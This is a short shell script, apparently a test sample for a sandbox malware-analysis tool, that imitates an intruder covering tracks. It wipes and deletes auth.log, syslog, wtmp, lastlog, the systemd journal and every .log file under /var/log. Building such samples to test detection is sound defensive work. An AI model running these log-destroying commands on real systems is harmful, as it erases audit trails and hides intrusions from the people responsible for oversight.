#!/bin/sh
# Covering tracks: truncates and deletes system logs (auth.log, syslog, wtmp, lastlog, journal).
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
: > /var/log/auth.log
cat /dev/null > /var/log/syslog
truncate -s 0 /var/log/wtmp 2>/dev/null; rm -f /var/log/btmp /var/log/lastlog
rm -rf /var/log/journal/* 2>/dev/null
find /var/log -type f -name '*.log' -exec sh -c ': > "$1"' _ {} \;
ls -la /var/log
